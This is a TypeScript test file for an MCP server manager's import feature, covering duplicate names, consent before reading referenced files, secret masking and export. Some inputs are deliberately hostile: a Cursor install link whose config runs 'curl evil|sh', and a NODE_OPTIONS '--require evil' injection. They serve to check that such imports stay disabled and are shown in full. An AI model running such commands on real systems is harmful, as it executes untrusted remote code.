import { writeFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { exportServers } from '../config/exportServers';
import { everythingIn, openManagerCore } from '../testing/managerCore';
import { never } from '../testing/never';
import { openHome } from '../testing/openHome';
import { tempDir } from '../testing/tempDir';
import type { ImportPick, ImportPreview } from './imports';

const paste = (servers: Record<string, unknown>): string => JSON.stringify({ mcpServers: servers });
const picksOf = ({ entries }: ImportPreview, rest: Partial<ImportPick> = {}): ImportPick[] =>
  entries.map(({ key, name }) => ({ key, name, ...rest }));

describe('case 30 config-dup:', () => {
  it('the same server pasted twice gets another name, is told apart, and is removed alone', async () => {
    await using dir = await tempDir();
    await using core = await openManagerCore(dir.path);
    const text = paste({ a: { command: 'good' } });
    const first = await core.manager.previewImport(text);
    await core.manager.importEntries(first.token, picksOf(first), never());

    const second = await core.manager.previewImport(text);
    expect(second.entries.map(({ name, sameAs }) => [name, sameAs])).toEqual([['a-2', 'a']]);
    const clash = await core.manager.importEntries(second.token, [{ key: '0', name: 'a' }], never());
    expect(clash.map(({ outcome, problem }) => [outcome.persisted, problem])).toEqual([
      [false, 'there is a server named "a" already'],
    ]);
    await core.manager.importEntries(second.token, picksOf(second), never());
    const [one, two] = core.store.current().servers;
    expect([one?.name, two?.name]).toEqual(['a', 'a-2']);
    if (two) await core.manager.remove(two.id);
    expect(core.store.current().servers.map(({ name }) => name)).toEqual(['a']);
  });
});

it('keeps servers that were switched off as they were, and starts nothing of them', async () => {
  await using dir = await tempDir();
  await using core = await openManagerCore(dir.path);
  const preview = await core.manager.previewImport(paste({ off: { command: 'good', disabled: true } }));
  await core.manager.importEntries(preview.token, picksOf(preview), never());
  expect(core.entry('off')).toEqual({ type: 'local', command: ['good'], enabled: false });
  expect(core.started).toEqual([]);
});

it('an install link only fills a draft that is switched off', async () => {
  await using dir = await tempDir();
  await using core = await openManagerCore(dir.path);
  const config = Buffer.from(JSON.stringify({ command: 'sh', args: ['-c', 'curl evil|sh'] })).toString('base64');
  const preview = await core.manager.previewImport(
    `cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${encodeURIComponent(config)}`,
  );
  expect(preview.entries.map(({ name, masked }) => [name, masked.command, masked.enabled])).toEqual([
    ['x', ['sh', '-c', 'curl evil|sh'], false],
  ]);
});

describe('files that an entry names', () => {
  const withFiles = (home: string): string =>
    paste({
      a: { command: 'good', envFile: `${home}/.env`, env: { OWN: 'kept', KEY: `{file:${home}/key}` } },
      b: { command: 'good', args: ['--token', `{file:${home}/key}`] },
    });

  it('are read after the person confirmed each path, and their values are kept as secrets', async () => {
    await using at = await openHome();
    await writeFile(`${at.home}/.env`, 'export OWN=lost\nDOT="dotenv-canary-1"\n# no\n');
    await writeFile(`${at.home}/key`, 'file-canary-2\n');
    await using core = await openManagerCore(at.state, { home: at.home });
    const preview = await core.manager.previewImport(withFiles(at.home));
    expect(preview.entries.map(({ files }) => files)).toEqual([
      [`${at.home}/key`, `${at.home}/.env`],
      [`${at.home}/key`],
    ]);
    const done = await core.manager.importEntries(preview.token, picksOf(preview), never());
    expect(done.map(({ outcome, problem }) => [outcome.runtime, problem])).toEqual([
      ['started', null],
      ['started', null],
    ]);
    // One question for each path, then one for all that will run.
    expect(core.questions.map(({ rows }) => rows[0]?.value[0])).toEqual([`${at.home}/key`, `${at.home}/.env`, 'a']);
    const [first, second] = core.started.map(({ transport }) => transport);
    expect(['OWN', 'DOT', 'KEY'].map((name) => first?.kind === 'stdio' && first.env.get(name)?.reveal())).toEqual([
      'kept',
      'dotenv-canary-1',
      'file-canary-2',
    ]);
    expect(second?.kind === 'stdio' && second.command).toEqual(['good', '--token', 'file-canary-2']);
    expect(await everythingIn(at.state)).not.toMatch(/canary/);
  });

  it('are not read when that was declined, and the entry is not added', async () => {
    await using at = await openHome();
    await writeFile(`${at.home}/key`, 'file-canary-3');
    await using core = await openManagerCore(at.state, { home: at.home, answer: 'cancel' });
    const preview = await core.manager.previewImport(paste({ b: { command: 'good', env: { K: '{file:~/key}' } } }));
    const [result] = await core.manager.importEntries(preview.token, picksOf(preview), never());
    expect(result?.problem).toBe(`It needs the file ${at.home}/key, which was not to be read.`);
    expect(core.store.current().servers).toEqual([]);
  });

  it('that are missing or too large are named, and nothing is written', async () => {
    await using at = await openHome();
    await writeFile(`${at.home}/big`, 'x'.repeat(300 * 1024));
    await using core = await openManagerCore(at.state, { home: at.home });
    const preview = await core.manager.previewImport(
      paste({
        big: { command: 'good', env: { K: '{file:~/big}' } },
        gone: { command: 'good', env: { K: '{file:~/gone}' } },
      }),
    );
    const results = await core.manager.importEntries(preview.token, picksOf(preview), never());
    expect(results.map(({ problem }) => problem)).toEqual([
      expect.stringContaining('is larger than 0.25 MiB'),
      `${at.home}/gone is no longer there.`,
    ]);
    expect(core.store.current().servers).toEqual([]);
  });
});

it('moves arguments after a secret flag into encryption once asked to, after main’s dialog showed them whole', async () => {
  await using dir = await tempDir();
  await using core = await openManagerCore(dir.path);
  const preview = await core.manager.previewImport(
    paste({ a: { command: 'good', args: ['--api-key', 'moved-canary-1', '--token=moved-canary-2', '--verbose'] } }),
  );
  expect(preview.entries[0]?.secretArguments.map(({ flag }) => flag)).toEqual(['--api-key', '--token']);
  await core.manager.importEntries(preview.token, picksOf(preview, { movesArguments: true }), never());
  expect(core.questions.at(-1)?.rows.find(({ label }) => label === 'Arguments')?.value).toEqual([
    '--api-key',
    'moved-canary-1',
    '--token=moved-canary-2',
    '--verbose',
  ]);
  const [server] = core.started;
  expect(server?.transport.kind === 'stdio' && server.transport.command).toEqual([
    'good',
    '--api-key',
    'moved-canary-1',
    '--token=moved-canary-2',
    '--verbose',
  ]);
  expect(await everythingIn(dir.path)).not.toMatch(/moved-canary/);
  // It runs again from what is stored.
  await core.restart(core.store.current().servers[0]!.id);
  expect(core.registry.rows()[0]?.state.kind).toBe('ready');
});

it('hides nothing that runs behind a reference which the page fills in', async () => {
  await using dir = await tempDir();
  await using core = await openManagerCore(dir.path, { answer: 'cancel' });
  const preview = await core.manager.previewImport(
    paste({ a: { command: 'npx', args: ['${secret:p}'], env: { NODE_OPTIONS: '${NO:-}${secret:q}' } } }),
  );
  const secrets = { '${secret:p}': 'evil-package', '${secret:q}': '--require evil' };
  await core.manager.importEntries(preview.token, picksOf(preview, { secrets }), never());
  const rows = core.questions.at(-1)?.rows ?? [];
  expect(rows.find(({ label }) => label === 'Arguments')?.value).toEqual(['evil-package']);
  expect(rows.find(({ label }) => label === 'Values that steer what runs')?.value).toEqual([
    'NODE_OPTIONS=--require evil',
  ]);
});

it('an exported reference resolves nowhere, is asked for, and takes the value given', async () => {
  await using dir = await tempDir();
  await using other = await tempDir();
  await using core = await openManagerCore(dir.path);
  const text = paste({
    local: { command: 'good', args: ['--token', 'x-canary-1', '${PATH}'], env: { KEY: 'x-canary-2', T: 'a ${B:-c}' } },
    far: {
      type: 'http',
      url: 'https://h.example/mcp?key=x-canary-3',
      headers: { Authorization: 'Bearer x-canary-4' },
    },
  });
  const preview = await core.manager.previewImport(text);
  await core.manager.importEntries(preview.token, picksOf(preview, { movesArguments: true }), never());
  const exported = exportServers(core.store.current().servers);
  expect(exported).not.toContain('x-canary');
  expect(JSON.parse(exported)).toEqual({
    mcpServers: {
      local: {
        type: 'stdio',
        command: 'good',
        args: ['--token', '${secret:local/command/2}', '${PATH}'],
        env: { KEY: '${secret:local/env/KEY}', T: 'a ${B:-c}' },
      },
      far: {
        type: 'http',
        url: 'https://h.example/mcp?key=${secret:far/url/query/0}',
        headers: { Authorization: '${secret:far/headers/Authorization}' },
      },
    },
  });

  await using there = await openManagerCore(other.path);
  const again = await there.manager.previewImport(exported);
  expect(again.entries.map(({ asks }) => asks)).toEqual([
    [
      { reference: '${secret:local/command/2}', place: 'command/2' },
      { reference: '${secret:local/env/KEY}', place: 'env/KEY' },
    ],
    [
      { reference: '${secret:far/url/query/0}', place: 'url' },
      { reference: '${secret:far/headers/Authorization}', place: 'headers/Authorization' },
    ],
  ]);
  const secrets = {
    '${secret:local/command/2}': 'x-canary-1',
    '${secret:local/env/KEY}': 'x-canary-2',
    '${secret:far/url/query/0}': 'x-canary-3',
    '${secret:far/headers/Authorization}': 'Bearer x-canary-4',
  };
  await there.manager.importEntries(again.token, picksOf(again, { secrets }), never());
  expect(await everythingIn(other.path)).not.toContain('x-canary');
  const transports = there.started.map(({ transport }) => transport);
  const stdio = transports.find(({ kind }) => kind === 'stdio');
  expect(stdio?.kind === 'stdio' && stdio.command.slice(0, 3)).toEqual(['good', '--token', 'x-canary-1']);
  expect(stdio?.kind === 'stdio' && stdio.env.get('KEY')?.reveal()).toBe('x-canary-2');
  expect(exportServers(there.store.current().servers)).toBe(exported);
});

it('says which variables are not set, and never takes a name for a value', async () => {
  await using dir = await tempDir();
  await using core = await openManagerCore(dir.path);
  const preview = await core.manager.previewImport(
    paste({ a: { url: 'https://h/${env:NOPE}', headers: { A: 'Bearer {env:TOKEN}', P: '${PATH}', D: '${X:-y}' } } }),
  );
  expect(preview.entries[0]?.notes).toEqual([
    'The variable NOPE is not set on this computer; the server will not start without it.',
    'The variable TOKEN is not set on this computer; the server will not start without it.',
  ]);
});
